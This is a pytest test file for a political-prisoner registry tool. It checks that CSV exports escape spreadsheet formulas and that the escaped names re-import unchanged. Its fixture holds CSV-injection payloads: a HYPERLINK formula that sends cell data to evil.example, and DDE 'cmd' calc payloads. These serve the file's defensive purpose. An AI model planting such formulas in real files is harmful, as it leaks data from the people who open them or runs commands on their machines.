"""A registry exported as CSV is opened by volunteers in spreadsheets: no cell may run as a formula
(OWASP's CSV-injection rule), and importing that file again gives back exactly the same names."""

import csv
import json

import pytest

from bot.cli import main

HOSTILE = {
    "id": "v-1",
    "name_en": '=HYPERLINK("https://evil.example/?leak="&A2,"Ales Bialiatski")',
    "name_be": "Алесь Бяляцкі",
    "name_ru": "@SUM(1+1)*cmd|' /C calc'!A0",
    "aliases": "+Aleś Bialacki",
    "status": "held",
    "sentence": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def exported(tmp_path, monkeypatch) -> list[dict[str, str]]:
    """The hostile entry imported from JSON Lines, then exported as CSV; the CSV's rows."""
    monkeypatch.setenv("PARDONWATCH_DB", str(tmp_path / "db.sqlite3"))
    source = tmp_path / "registry.jsonl"
    source.write_text(json.dumps(HOSTILE, ensure_ascii=False) + "\n", encoding="utf-8")
    assert main(["prisoners", "import", str(source)]) == 0
    out = tmp_path / "export.csv"
    assert main(["prisoners", "export", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fp:
        return list(csv.DictReader(fp))


def test_exported_cells_that_would_run_as_formulas_start_with_a_quote(exported):
    (row,) = [r for r in exported if r["id"] == "v-1"]
    assert row["name_en"] == "'" + HOSTILE["name_en"]
    assert row["name_ru"] == "'" + HOSTILE["name_ru"]
    assert row["aliases"].startswith("'" + HOSTILE["aliases"])  # the seed's own spellings follow
    assert row["sentence"] == "'" + HOSTILE["sentence"]
    assert row["name_be"] == "Алесь Бяляцкі"


def test_a_csv_written_for_spreadsheets_imports_with_the_names_as_they_were(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("PARDONWATCH_DB", str(tmp_path / "db.sqlite3"))
    safe = tmp_path / "export.csv"
    with safe.open("w", encoding="utf-8", newline="") as fp:
        writer = csv.DictWriter(fp, fieldnames=list(HOSTILE), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerow({k: "'" + v if v[0] in "=+-@" else v for k, v in HOSTILE.items()})
    assert main(["prisoners", "import", str(safe)]) == 0
    capsys.readouterr()
    assert main(["prisoners", "search", "Бяляцкі", "--json"]) == 0
    found = next(f for f in json.loads(capsys.readouterr().out) if f["id"] == "v-1")
    assert (found["name_en"], found["name_ru"]) == (HOSTILE["name_en"], HOSTILE["name_ru"])
